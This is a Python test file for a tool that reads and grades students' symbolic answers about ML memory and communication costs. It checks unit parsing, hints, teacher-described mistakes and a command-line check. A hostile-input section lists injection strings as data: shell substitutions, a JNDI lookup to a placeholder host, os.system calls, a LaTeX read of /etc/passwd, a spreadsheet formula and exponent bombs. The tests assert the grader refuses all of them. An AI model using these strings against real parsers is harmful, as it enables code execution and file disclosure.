"""How answers are read and checked: rules, hints, hostile texts, mistakes that a teacher describes, the command."""

import json
import time
from pathlib import Path

import pytest
from api import MISTAKES, Answer, decide, main, parse_problem, parse_template, self_test, solve, with_mistakes
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from test_answers_golden import DATA, key

import symcomm as sc

TABLE = """| Computation | Input | Output |
|---|---|---|
| A = xW^1 | x [B, D], W^1 [D, F] | A [B, F] |
| y = AW^2 | A [B, F], W^2 [F, D] | y [B, D] |
"""


def document(questions, before=""):
    model = "```symcomm\nmodel: m\nrepeat: N_layer\nvalues: {N_layer: 8, B: 4, D: 16, F: 64}\n```\n"
    return parse_problem(f"{TABLE}\n{model}\n{before}```symcomm\n{questions}\n```\n", "t.md")


def checked(problem, answer):
    return sc.key_of(problem, problem.asks[0]).check(answer)


# -- reading ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "hint"),
    [
        ("24ND^2/2k", "write /(2*k) or /2*k"),
        ("1/2N", "write /(2*N) or /2*N"),
        ("24 N D2", "D2 is not a name: write D^2 or 2*D"),
        ("24 12 N D^2", "two numbers side by side"),
        ("24NDx", "x is not a name here"),
        ("12,885 GB", "12.885 or 12885? write a point, or no mark"),
        ("12.88 Gb", "write Gbit or GB"),
        ("12.885 GB^1.5", "the unit is not clear"),
        ("12.885 GB^99999999", "the unit is not clear"),
        ("24 N D^2 bytes bytes", "the unit is there twice"),
        ("24*N*(D^2", "a bracket is not closed: ("),
        ("24*N)*D^2", "a bracket is closed that was not opened"),
        ("24ND^1/2", "write x^(1/2) or sqrt(x)"),
        ("24ND^2 =", "the right side of the equals sign is empty"),
        ("24·N·D^2 or 12", "give one answer"),
        ("24*П*D^2", "cyrillic capital letter pe"),
        ("24 N D^2/(k-k)", "division by zero"),
        ("ceil 3.5", "write ceil(...) with brackets"),
        ("24 ·· N D^2", "two operators in a row"),
        ("24 *= N D^2", "two operators in a row"),
        ("24^ND", "write brackets around the exponent"),
        ("24 N D^2^3", "stacked powers: write brackets"),
        ("24 N D^2_3", "an index needs a name before it"),
        (r"24 \cdo N D^2", r"\cdo is not read here"),
        (r"\mathcal{O}(N D^2)", "give the exact count, not its order"),
        ("24 N D^2,", "give one answer, without a comma"),
        ("25 302^2", "two numbers side by side"),
        (r"\frac{24 N D^2}-2", "the fraction or the root is empty"),
    ],
)
def test_what_is_not_clear_is_not_read_and_the_hint_says_how_to_write_it(text, hint):
    verdict = key("dp_payload").check(text)
    assert verdict.verdict == "unreadable"
    assert hint in verdict.hint


def test_a_name_that_can_be_split_in_two_ways_is_told_with_both():
    assert key("fsdp_state").check("192ND^2/N_D").hint == "ND is N_D here, or N times D: write N*D or N_D"


LATEX = [r"$(12+12)N_{layer}D^2$", "${24ND^2}$", "$24$ N.D^2", "24 . N . D^2", r"\(24 N D^2\)", "'24 N D^2'",
         "“24ND^2”", "`24 N D^2`", "**24 N D^2**", "24 N D^2 Bytes", "12.88 吉字节", "128.8 亿 字节",
         "12,88 Gigabyte", "4 GB + 4 GB + 4.88 GB", r"24 N_{\rm layer} D^2", r"24\, N\, d\_model^2", "24 N (1/D)^-(2)",
         "24 N D^⌈3/2⌉", "24⨯N∗D²", "24 N\u2062D^2"]  # fmt: skip


@pytest.mark.parametrize("text", LATEX)
def test_a_right_answer_between_the_marks_of_maths_or_in_words_of_a_language_is_right(text):
    verdict = key("dp_payload").check(text)
    assert verdict.right, verdict


@pytest.mark.parametrize(("question", "text"), [
    ("tf32_peak", "155.9 teraflops"), ("tf32_peak", "155,9 Teraflops"), ("ring_time", "75.16 Millisekunden"),
    ("tf32_peak", "155.9 teraflops per second"), ("tf32_peak", "155.9 TFLOPS/s"),
    ("ring_time", "75.16 毫秒"), ("ring_time", "2(k-1)M/(kW) Sekunden"), ("bubble", "27,3 Prozent"),
    ("lm_params", "3.407 Milliarden"), ("lm_params", "3.407 Mrd. Parameter"), ("lm_params", "34.07亿 个参数"),
    ("tf32_peak", "155.9 万亿次每秒"), ("tf32_peak", "约 155.9 万亿次/秒"),
])  # fmt: skip
def test_units_are_read_in_the_words_of_the_languages_that_papers_have(question, text):
    verdict = key(question).check(text)
    assert verdict.right, verdict


@pytest.mark.parametrize("text", [
    "$(id)", "${jndi:ldap://x.example/a}", "$(24 N D^2)", "'$(id)'", '"import os"', "`id`", '"24*N*D**2"',
    "os.system('ls')", "N.__class__", "N.D.real()", "f.read()", "print('24')",
])  # fmt: skip
def test_code_is_refused_also_in_quotes_or_behind_a_dollar_sign(text):
    assert key("dp_payload").check(text).verdict == "refused"


@pytest.mark.parametrize(("text", "hint"), [
    ("I don't know", "this gives no answer"), ("I don’t know.", "this gives no answer"),
    ("keine Ahnung", "this gives no answer"), ("不知道", "this gives no answer"),
    ("it's big", "is not a name here"), ("N.real", "real is not a name here"),
    ("3 M.D.F", "M is not a name here"), ("4 M.D.(D+1)", "M is not a name here"), ("M_q.D.D", "M_q is not a name here"),
    ("12 GB + 3 + 880 MB", "a term has no unit: write one behind each, or one behind the sum"),
    ("12 GB + 3 s", "the terms have different units"),
])  # fmt: skip
def test_what_is_no_answer_is_unreadable_and_not_refused(text, hint):
    verdict = key("dp_payload").check(text)
    assert (verdict.verdict, hint in verdict.hint) == ("unreadable", True), verdict


def test_an_exponent_that_is_nearly_whole_is_wrong_and_not_refused():
    assert key("dp_payload").check("24 N D^2.0").right
    assert key("dp_payload").check("24 N D^2.0001").verdict == "different"
    assert key("dp_payload").check("24 N D^2.00000001").verdict == "refused"


RIGHT = ["24·N·D² bytes", r"$24\,N_{\text{layer}}D^{2}$", "24 N D^2 [bytes]", "V = 24ND² ≈ 12.9 GB", "12 884 901 888",
         "12.9 GB", "103.08 Gbit", "12,9·10^9", "24ND^2/2^30 GiB"]  # fmt: skip


@pytest.mark.parametrize("text", RIGHT)
def test_the_right_answer_is_right_however_it_is_written(text):
    assert key("dp_payload").check(text).right


def test_numbers_are_right_when_they_are_rounded_to_two_digits_or_cut_off_at_three():
    check = key("dp_payload").check  # 12.8849... GB
    told = {n: check(f"{n} GB").verdict for n in ("13", "12.9", "12.8", "12.88", "12.89", "1e1")}
    assert told == {"13": "right", "12.9": "right", "12.8": "right", "12.88": "right", "12.89": "different",
                    "1e1": "different"}  # fmt: skip


def test_a_number_without_a_unit_is_in_that_of_the_prompt_and_is_asked_for_one_where_there_is_none():
    asked = "ask: communication\nstrategy: data(k)\ngiven: {k: 2}\nanswer: {%sconventions: [], mistakes: []}"
    named, open_ = document(asked % "in: KiB, "), document(asked % "")
    assert checked(named, "32").right  # 4 * 8 * 16 * 64 B
    assert checked(named, "32 KiB").right
    assert checked(open_, "32768").right
    assert "write the unit behind it" in checked(open_, "77").hint
    assert checked(open_, "32").hint == "this is 1024 times too small: which prefix do you mean?"
    assert checked(named, "77").hint == ""


def test_a_calculation_behind_a_unit_is_worked_out_and_not_left_out():
    check = key("dp_payload").check
    assert check("25.77 GB/2").right
    assert not check("12.88 GB / 2").right
    assert check("6.44 GB + 6.44 GB").right
    assert check("12.88 GB/s").verdict == "different"


def test_a_decimal_comma_is_read_where_the_document_says_so():
    d = sc.peak_rate(clock="1.41 GHz", units=108, fma=512)
    assert sc.check("155,935 TFLOP/s", d).verdict == "unreadable"
    assert sc.check("155,935 TFLOP/s", d, decimal_comma=True).right


# -- verdicts --------------------------------------------------------------------------------------------


def test_a_formula_that_agrees_at_the_given_numbers_only_is_different_and_shows_where():
    verdict = key("dp_payload").check("24 N L D")
    assert verdict.verdict == "different"
    assert verdict.hint == "this agrees at the given numbers only: other numbers tell the two apart"
    assert verdict.counterexample.answer != verdict.counterexample.key


def test_where_the_given_numbers_say_which_of_two_is_less_it_may_stand_alone():
    best = sc.derive("buckets", want="size", o="20 us", s="1.2 GB", w="50 GB/s")  # sqrt(s w o) is 34.6 MB
    assert sc.check("sqrt(s w o)", best).right
    assert sc.check("min(s, sqrt(s w o))", best).right
    assert sc.check("s", best).verdict == "different"
    unknown = sc.check("s/n_b", best)  # without a number of n_b nothing agrees at the given numbers
    assert unknown.verdict == "different"
    assert unknown.hint == ""


def test_what_cannot_be_decided_earns_neither_full_nor_no_credit():
    verdict = key("bucket_size").check("sqrt(swo)+1e-300")
    assert verdict.verdict == "undecided"
    assert not verdict.right


def test_a_derivation_is_asked_again_under_other_conventions_and_with_every_mistake():
    model = sc.load(TABLE, repeat="N_layer")
    d = model.communication("data(k)", collective="all-reduce")
    assert sc.check("4 N_layer D F", d).mistakes == ()
    assert sc.check("4 N D F", d).right
    assert "N was read as N_layer" in sc.check("4 N D F", d).hint
    assert sc.check("2 N D F", d).mistakes in (("elements_for_bytes",), ("matrix_of_mlp_forgotten",))
    sent = sc.check("8 N D F (k-1)/k", d)
    assert sent.conventions == ("communication: sent_per_rank",)
    assert str(sent).startswith("right under another convention (communication: sent_per_rank)")


def test_an_answer_is_read_as_latex_for_the_student_to_see():
    assert key("dp_payload").check("24*N*D**2/k").read == r"\frac{24\,N_{\text{layer}}\,D^{2}}{k}"


def test_given_numbers_can_be_put_in_anew_without_deriving_anything():
    from fractions import Fraction

    known = key("dp_payload")
    other = known.at({"N_layer": Fraction(2)})
    assert other.number.value * 16 == known.number.value
    assert other.candidates is known.candidates
    assert other.check("48 D^2").right
    assert not known.check("48 D^2").right


# -- mistakes --------------------------------------------------------------------------------------------


def test_there_are_thirty_mistakes_and_more_each_with_a_sentence():
    assert len(MISTAKES) >= 30
    assert len({mistake.name for mistake in MISTAKES}) == len(MISTAKES)
    assert all(mistake.says.endswith(".") and mistake.changes for mistake in MISTAKES)


OWN = "```symcomm\nmistake: {{name: own, says: This is wrong., change: {{{change}}}}}\n```\n\n"


@pytest.mark.parametrize(
    ("change", "answer"),
    [
        ("times: 3", "12 N_layer D F"),
        ("over: batch", "4 N_layer D F/B"),
        ("replace: {F: D}", "4 N_layer D^2"),
        ("without: [W^2]", "2 N_layer D F"),
        ("accounting: all_links", "8 N_layer D F (k-1)"),
        ("option: {dtype: fp64}", "16 N_layer D F"),
        ("element_bytes: 8", "16 N_layer D F"),
        ("like: one_layer_only", "4 D F"),
        ("inverse: yes", "1/(4 N_layer D F)"),
        ("times: 3, without: [W^2]", "6 N_layer D F"),
    ],
)
def test_a_teacher_describes_a_mistake_of_their_own(change, answer):
    asked = "ask: communication\nstrategy: data(k)\ngiven: {k: 2}\nanswer: {mistakes: [own], conventions: []}"
    verdict = checked(document(asked, OWN.format(change=change)), answer)
    assert (verdict.verdict, verdict.mistakes, verdict.says) == ("mistake", ("own",), ("This is wrong.",))


BELOW_HEADINGS = """---
title: Two questions
---
# Rate (1 points)

```symcomm
- mistake: {name: own, says: This is wrong., change: {times: f}%s}
- {ask: peak_rate, id: rate, given: {f: 2 GHz, n_SM: 8, n_FMA: 4}}
```

## A part of it

```symcomm
{ask: peak_rate, id: part, given: {f: 3 GHz, n_SM: 8, n_FMA: 4}}
```

# Time (1 points)

```symcomm
{ask: collective_time, id: time, algorithm: ring, given: {n: 1 MB, k: 8, alpha: 10 µs, W: 50 GB/s}%s}
```
"""


def own_mistakes(text):
    problem = parse_problem(text, "t.md")
    keys = {name: sc.key_of(problem, ask) for name, ask in zip(problem.ids, problem.asks, strict=True)}
    return problem, {name: [w.names for w in key.mistakes if "own" in w.names] for name, key in keys.items()}


def test_a_mistake_of_a_teacher_belongs_to_the_questions_below_its_heading():
    problem, found = own_mistakes(BELOW_HEADINGS % ("", ""))
    assert found == {"rate": [("own",)], "part": [("own",)], "time": []}
    assert [[one.name for one in problem.mistakes_in(ask)] for ask in problem.asks] == [["own"], ["own"], []]
    assert [
        one.name for one in own_mistakes(BELOW_HEADINGS % (", everywhere: yes", ""))[0].mistakes_in(problem.asks[2])
    ]
    _, found = own_mistakes(BELOW_HEADINGS.replace("times: f", "times: 3") % ("", ", answer: {mistakes: [own]}"))
    assert found["time"] == [("own",)]  # named by the question
    _, found = own_mistakes(
        "# Two questions\n\n"
        + OWN.format(change="times: 3")
        + BELOW_HEADINGS.split("---\n")[2].replace(
            "- mistake: {name: own, says: This is wrong., change: {times: f}%s}\n", ""
        )
        % ""
    )
    assert found == {name: [("own",)] for name in found}  # below the title


@pytest.mark.few(3)
@pytest.mark.parametrize(
    "change", ["times: D", "over: D", "replace: {D: n}", "replace: {n: D}", "drop: D", "without: [W^9]"]
)
def test_a_mistake_that_names_what_a_question_does_not_have_is_left_out_and_told(change):
    text = BELOW_HEADINGS.replace("times: f", change) % (", everywhere: yes", "")
    _, found = own_mistakes(text)
    assert found == {"rate": [], "part": [], "time": []}
    report = self_test(parse_template(text), draws=1)
    assert report.problems == ()
    assert "note: the mistake 'own' changes nothing in part, rate, time, and is left out there" in report.text
    report = self_test(parse_template(BELOW_HEADINGS % (", everywhere: yes", "")), draws=1)
    assert report.notes == ("the mistake 'own' changes nothing in time, and is left out there",)


def test_graders_are_told_the_mistakes_of_a_teacher_before_the_known_ones():
    problem, _ = own_mistakes(BELOW_HEADINGS.replace("times: f", "times: 5") % ("", ""))
    solved = with_mistakes(solve(problem), problem)
    rate, *_ = [block.mistakes for block in solved.blocks if isinstance(block, Answer)]
    assert rate[0].startswith("This is wrong (")
    assert len(rate) > 1


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ("twice: yes", "unknown key 'twice' in this change"),
        ("inverse: no", "this change changes nothing"),
        ("drop: [a]", "'drop' must be text, but is a list"),
        ("like: one_layer", "no mistake is called 'one_layer'"),
        ("accounting: every_link", "unknown convention 'every_link'"),
        ("times: 1//2", "'1//2' is no factor\n.*\n.*\nhint: such as 2 or 1/3, a symbol, or a role"),
        ("over: 0", "'0' is no factor"),
    ],
)
def test_a_mistake_that_cannot_be_read_is_refused_with_its_place(change, said):
    problem = document("ask: parameters", OWN.format(change=change))
    with pytest.raises(sc.SymcommError, match=said) as raised:
        sc.key_of(problem, problem.asks[0])
    assert "t.md:" in str(raised.value)


@pytest.mark.parametrize(
    ("answer", "said"),
    [
        ("{lefts: P}", "unknown key 'lefts' in answer"),
        ("{in: parsec}", "unknown unit 'parsec'"),
        ("{prefixes: maybe}", "'prefixes' is open or stated, not 'maybe'"),
        ("{conventions: [every_link]}", "unknown convention 'every_link'"),
        ("{mistakes: [no_such]}", "no mistake is called 'no_such'"),
        ("{step: Q}", "there is no step 'Q'"),
        ("{decimal_comma: maybe}", "'decimal_comma' is yes or no, not 'maybe'"),
    ],
)
def test_a_slip_in_what_a_document_says_of_answers_is_refused_with_its_place(answer, said):
    def made():
        problem = document(f"ask: parameters\nanswer: {answer}")
        return sc.key_of(problem, problem.asks[0])

    with pytest.raises(sc.SymcommError) as raised:
        made()
    assert said in str(raised.value)
    assert "t.md:" in str(raised.value)


def test_a_prompt_may_rule_a_convention_out_which_is_a_mistake_then():
    answer = "{conventions: [], mistakes: [], ruled_out: [all_links]}"
    asked = f"ask: communication\nstrategy: data(k)\ngiven: {{k: 2}}\nanswer: {answer}"
    verdict = checked(document(asked), "8 N_layer D F (k-1)")
    assert (verdict.verdict, verdict.mistakes) == ("mistake", ("communication: all_links",))


# -- hostile texts ---------------------------------------------------------------------------------------

HOSTILE = [
    "__import__('os').system('touch hacked')", "9^{9^{9^9}}", "(10^7)!", "(" * 100_000, "-" * 10_000, "1e-999999999",
    "Matrix([[1]*60]*60)", "24\u200bND^2\u202e", "\\input{/etc/passwd}", "=HYPERLINK(\"http://x\")", "D^(10^9)",
    "(((N+D)^60)^60)^60", "2^(2^(2^(2^(2^10))))", "{" * 5000 + "D" + "}" * 5000, "\\frac{" * 600, "N" * 3900,
    "sqrt(" * 50 + "D" + ")" * 50, "+".join(["D^1000"] * 500), "*".join(["(N+1)^999"] * 300), "9" * 3999, "1,1" * 1300,
    "\\left(" * 500, "log(" * 60 + "D" + ")" * 60, "ceil(" * 59 + "D/3" + ")" * 59, "D_" * 1900, "'" * 3000,
    "min(D," * 59,
    "1/" * 1900 + "3", "D^-1" * 900, "((N-D)/(D-N))^1000", "0^-1", "0^0", "D^D^D", "2^D", "(-1)^(1/2)", "1e1000*D",
    "99^999*D", "7^999*7^999*7^999*N", "10^-1000*sqrt(N)", "max(" + ",".join(["N"] * 900) + ")",
]  # fmt: skip


@pytest.mark.parametrize("name", ["dp_payload", "bucket_size"])
def test_hostile_texts_get_a_verdict_soon_and_are_never_right(name):
    known = key(name)
    known.check("1*s+1" if name == "bucket_size" else "1*D*N")  # what is known of the question is worked out once
    for text in HOSTILE:
        start = time.process_time()
        verdict = decide(text, known)
        assert time.process_time() - start < 1, text[:60]  # of what hangs; benchmarks say how long the others take
        assert not verdict.right, text[:60]
        json.dumps(verdict.record())


_PIECES = r"""24 N D ^2 k ( ) / * \frac { } sqrt GB = , . 1 - + e9 _ \text % x ⌈ ⌉ ² ½ [ ] log2 min \left | B s"""


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from([*_PIECES.split(), " "]), max_size=30).map("".join) | st.text(max_size=60))
def test_any_text_gets_a_verdict(text):
    verdict = key("tf32_peak").check(text)
    assert verdict.verdict in (
        "right",
        "other_convention",
        "mistake",
        "different",
        "unreadable",
        "refused",
        "undecided",
    )


# -- the command -----------------------------------------------------------------------------------------


def run(*arguments):
    return CliRunner().invoke(main, ["check", str(DATA / "answers_questions.md"), *arguments])


def test_the_command_says_the_verdict_and_its_status_is_zero_only_if_it_is_right():
    right, wrong = run("tf32_peak", "2 f n_SM c"), run("tf32_peak", "2 f c")
    assert (right.exit_code, right.output.splitlines()[0]) == (0, "right")
    assert (wrong.exit_code, wrong.output.splitlines()[0]) == (1, "mistake (per_rank_for_total)")


def test_the_command_writes_json():
    made = json.loads(run("tf32_peak", "f n_SM c", "--json").output)
    assert (made["verdict"], made["conventions"]) == ("other_convention", ["flops: mac"])
    assert "counterexample" in made


def test_the_command_tells_the_answer_only_where_it_is_asked_to_and_reads_as_it_is_typed():
    hidden, shown = run("tf32_peak", "155 GFLOP/s").output, run("tf32_peak", "155 GFLOP/s", "--reveal").output
    assert "155.9" not in hidden
    assert "155 GFLOP/s is not right" in hidden
    assert "the answer is 155 GFLOP/s, but 155.9 TFLOP/s is right" in shown
    assert "key" not in json.loads(run("tf32_peak", "1 GFLOP/s", "--json").output)["counterexample"]
    assert "read as: 2 f n_SM n_FMA" in run("tf32_peak", r"2 f n_{SM} n_{FMA}").output
    assert "\\" not in run("tf32_peak", r"\frac{2 f n_{SM} n_{FMA}}{1}").output


def test_an_unknown_question_ends_with_status_two_and_names_near_ones():
    found = run("tf32_peek", "1")
    assert found.exit_code == 2
    assert "there is no question 'tf32_peek'" in found.output
    assert "did you mean 'tf32_peak'" in found.output


def test_the_command_shows_nothing_that_orders_the_terminal():
    assert "\x1b" not in run("tf32_peak", "\x1b[31m1").output


def test_nothing_is_written_by_a_check(tmp_path: Path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    run("tf32_peak", "__import__('os')")
    assert [*tmp_path.iterdir()] == []


@pytest.mark.parametrize("name", ["F", "D", "V", "FLOPs", "Bytes"])
def test_what_stands_alone_before_an_answer_is_its_name_also_where_a_size_has_that_name(name):
    table = "Computation\tInput\tOutput\nA=xW\tx [B,L,D], W [D,F]\tA [B,L,F]\n"
    found = sc.check(f"{name} = 2BLDF", sc.load(table).flops())
    assert found.verdict == "right"
    assert found.hint == (f"{name} before = is read as the name of the answer" if name in ("F", "D") else "")
    assert sc.check(f"{name} = 3BLDF", sc.load(table).flops()).verdict != "right"


def test_a_symbol_may_be_called_lambda_and_code_is_still_refused():
    key = sc.minimise("lambda n + s/n", "n", integer=False)
    said = [r"\sqrt{s/\lambda}", "sqrt(s/lambda)", "sqrt(s/λ)", "eval(lambda)", "import lambda"]
    assert [sc.check(text, key).verdict for text in said] == ["right"] * 3 + ["refused"] * 2
    table = "Computation\tInput\tOutput\ny=xW\tx [B,D], W [D,D]\ty [B,D]\n"
    assert sc.check("lambda D", sc.load(table).flops()).verdict == "refused"


MIXER = r"""
| Computation | Input | Output |
|---|---|---|
| $u = W^1 x$ | x [B, S, C], W^1 [T, S] | u [B, T, C] |
| $r = x + W^2 u$ | x [B, S, C], u [B, T, C], W^2 [S, T] | r [B, S, C] |
| $y = r + r W^3$ | r [B, S, C], W^3 [C, C] | y [B, S, C] |
"""


def test_a_sum_with_the_input_is_no_gate():
    told = sc.check("S T + C^2", sc.load(MIXER).parameters())
    assert told.mistakes == ("matrix_of_mlp_forgotten",)


def test_the_other_bubble_and_another_unit_are_told_in_words():
    bubble = sc.derive("pipeline_time", want="bubble_ideal", stages=4, microbatches=12)  # 3 idle slots beside 12
    assert sc.check("25 %", bubble).right
    assert sc.check("20 %", bubble).mistakes == ("bubble_of_total_for_ideal",)
    assert sc.check("80 %", bubble).mistakes == ("utilisation_for_bubble",)
    assert sc.check("3 GB", bubble).hint == "this is in B, but the answer is a plain number"
    assert sc.check("3 GB", sc.load(MIXER).parameters()).hint == "this is in B, but the answer is in parameters"
